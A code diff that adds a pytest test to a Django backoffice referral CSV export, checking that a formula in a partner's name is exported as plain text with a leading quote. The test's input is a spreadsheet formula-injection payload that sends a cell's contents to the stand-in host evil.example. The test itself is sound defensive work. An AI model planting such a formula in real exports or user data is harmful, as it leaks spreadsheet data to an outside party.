@@ -115,6 +115,19 @@ def test_export_csv_has_every_partner_with_its_balance(partners, login_as):
     assert by_code[partners["b"].code]["bonus_balance"] == "0.00"
 
 
+def test_export_csv_makes_a_formula_in_a_partner_name_plain_text(world, partners, login_as):
+    hostile = '=HYPERLINK("http://evil.example/?x="&A2,"Beta")'
+    world.partner_a.short_name = hostile
+    world.partner_a.save(update_fields=["short_name"])
+
+    response = login_as("vendor:accountant").get(reverse("backoffice:referral_export"))
+
+    content = b"".join(response.streaming_content).decode("utf-8-sig")
+    by_code = {row["code"]: row for row in csv.DictReader(io.StringIO(content))}
+    assert by_code[partners["a"].code]["organisation"] == "'" + hostile
+    assert by_code[partners["a"].code]["bonus_balance"] == "2700.00"
+
+
 def test_bonus_balances_of_many_partners_take_one_query(
     partners, program, login_as, django_assert_num_queries
 ):
